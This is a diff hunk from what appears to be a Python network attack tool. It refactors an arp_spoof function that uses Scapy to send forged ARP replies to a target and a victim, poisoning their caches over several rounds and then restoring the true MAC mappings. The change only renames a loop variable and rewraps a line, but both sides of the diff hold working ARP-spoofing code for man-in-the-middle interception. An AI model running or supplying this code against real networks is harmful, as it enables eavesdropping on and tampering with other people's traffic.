@@ -150,14 +150,16 @@ def arp_spoof(arguments: argparse.Namespace) -> None:
     hosts = (arguments.target, arguments.victim)
     macs = {address: _find(wire, own, arguments.source, address) for address in hosts}
     for _ in range(arguments.rounds):
-        for claimed, told in (hosts, hosts[::-1]):
-            claim = ARP(op=2, hwsrc=own, psrc=claimed, pdst=told, hwdst=macs[told])
-            wire.send(Ether(src=own, dst=macs[told]) / claim)
+        for claimed, receiver in (hosts, hosts[::-1]):
+            claim = ARP(op=2, hwsrc=own, psrc=claimed, pdst=receiver, hwdst=macs[receiver])
+            wire.send(Ether(src=own, dst=macs[receiver]) / claim)
         time.sleep(0.5)
     for _ in range(3):
-        for claimed, told in (hosts, hosts[::-1]):
-            truth = ARP(op=2, hwsrc=macs[claimed], psrc=claimed, pdst=told, hwdst=macs[told])
-            wire.send(Ether(src=own, dst=macs[told]) / truth)
+        for claimed, receiver in (hosts, hosts[::-1]):
+            truth = ARP(
+                op=2, hwsrc=macs[claimed], psrc=claimed, pdst=receiver, hwdst=macs[receiver]
+            )
+            wire.send(Ether(src=own, dst=macs[receiver]) / truth)
         time.sleep(0.3)
 
 
